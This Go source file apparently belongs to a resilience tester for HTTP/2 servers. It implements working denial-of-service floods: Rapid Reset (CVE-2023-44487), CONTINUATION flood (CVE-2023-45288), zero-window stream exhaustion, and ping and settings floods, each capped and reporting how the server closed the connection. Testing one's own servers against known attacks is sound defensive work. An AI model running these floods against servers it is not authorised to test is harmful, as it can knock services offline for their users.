package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// A connection2 is a hostile client's HTTP/2 connection.
type connection2 struct {
	conn   *tls.Conn
	w      *bufio.Writer
	mu     sync.Mutex // over what is written
	framer *http2.Framer
	ended  chan string
	most   chan uint32  // streams that the server allows
	reset  func() error // called when the server has ended a stream, with mu held
}

// connect2 opens a connection and answers what must be answered on it.
func connect2(ctx context.Context, v *server, settings ...http2.Setting) (*connection2, error) {
	raw, err := dial(ctx, v)
	if err != nil {
		return nil, err
	}
	conn := tls.Client(raw, clientTLS("h2"))
	if err := conn.HandshakeContext(ctx); err != nil {
		raw.Close()
		return nil, err
	}
	c := &connection2{conn: conn, w: bufio.NewWriterSize(conn, 32<<10), ended: make(chan string, 1), most: make(chan uint32, 1)}
	c.framer = http2.NewFramer(c.w, bufio.NewReader(conn))
	if _, err := c.w.WriteString(http2.ClientPreface); err != nil {
		return nil, err
	}
	if err := errors.Join(c.framer.WriteSettings(settings...), c.w.Flush()); err != nil {
		return nil, err
	}
	go c.read()
	return c, nil
}

// read answers settings and pings until the connection ends.
func (c *connection2) read() {
	how := "cut off"
	defer func() { c.ended <- how; c.conn.Close() }()
	for {
		frame, err := c.framer.ReadFrame()
		if err != nil {
			return
		}
		c.mu.Lock()
		switch f := frame.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				err = c.framer.WriteSettingsAck()
				if n, ok := f.Value(http2.SettingMaxConcurrentStreams); ok {
					select {
					case c.most <- n:
					default:
					}
				}
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				err = c.framer.WritePing(true, f.Data)
			}
		case *http2.RSTStreamFrame:
			if c.reset != nil {
				err = c.reset()
			}
		case *http2.GoAwayFrame:
			how = fmt.Sprintf("GOAWAY %s", f.ErrCode)
		}
		c.mu.Unlock()
		if err != nil {
			return
		}
	}
}

// head is the header block of a request for a page.
func head(v *server, path string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", v.addr}, {":path", path}} {
		_ = e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	return b.Bytes()
}

// rapidReset opens streams and cancels each at once (CVE-2023-44487), a million
// at most.
func rapidReset(ctx context.Context, v *server) string {
	c, err := connect2(ctx, v)
	if err != nil {
		return refused
	}
	defer c.conn.Close()
	block := head(v, "/")
	for id := uint32(1); id < 2_000_000 && ctx.Err() == nil; id += 2 {
		c.mu.Lock()
		err := c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
		if err == nil {
			err = c.framer.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		c.mu.Unlock()
		if err != nil {
			break
		}
	}
	c.conn.Close()
	return <-c.ended
}

// continuationFlood sends a header block that does not end (CVE-2023-45288), a
// gigabyte at most.
func continuationFlood(ctx context.Context, v *server) string {
	c, err := connect2(ctx, v)
	if err != nil {
		return refused
	}
	defer c.conn.Close()
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for i := 0; b.Len() < 16_000; i++ {
		_ = e.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-%d", i), Value: "x", Sensitive: true})
	}
	c.mu.Lock()
	err = c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head(v, "/"), EndStream: true})
	c.mu.Unlock()
	for sent := 0; sent < gigabyte && err == nil && ctx.Err() == nil; sent += b.Len() {
		c.mu.Lock()
		err = c.framer.WriteContinuation(1, false, b.Bytes())
		c.mu.Unlock()
	}
	c.conn.Close()
	return <-c.ended
}

// zeroWindow asks for a large page on as many streams as it may have, and takes
// nothing. Streams that the server ends are opened anew.
func zeroWindow(ctx context.Context, v *server) string {
	c, err := connect2(ctx, v, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	if err != nil {
		return refused
	}
	defer c.conn.Close()
	most := uint32(250)
	select {
	case most = <-c.most:
	case <-time.After(2 * time.Second):
	}
	block, id := head(v, "/?page=2"), uint32(1)
	c.mu.Lock()
	c.reset = func() error {
		err := c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
		id += 2
		return errors.Join(err, c.w.Flush())
	}
	for range min(most, 249) {
		if err = c.reset(); err != nil {
			break
		}
	}
	c.mu.Unlock()
	return <-c.ended
}

// pingFlood sends pings and reads the answers, a million at most.
func pingFlood(ctx context.Context, v *server) string {
	return flood(ctx, v, func(c *connection2) error { return c.framer.WritePing(false, [8]byte{}) })
}

// settingsFlood sends settings and reads the answers, a million at most.
func settingsFlood(ctx context.Context, v *server) string {
	return flood(ctx, v, func(c *connection2) error {
		return c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
	})
}

func flood(ctx context.Context, v *server, once func(*connection2) error) string {
	c, err := connect2(ctx, v)
	if err != nil {
		return refused
	}
	for i := 0; i < 1_000_000 && err == nil && ctx.Err() == nil; i++ {
		c.mu.Lock()
		err = once(c)
		c.mu.Unlock()
	}
	c.conn.Close()
	return <-c.ended
}
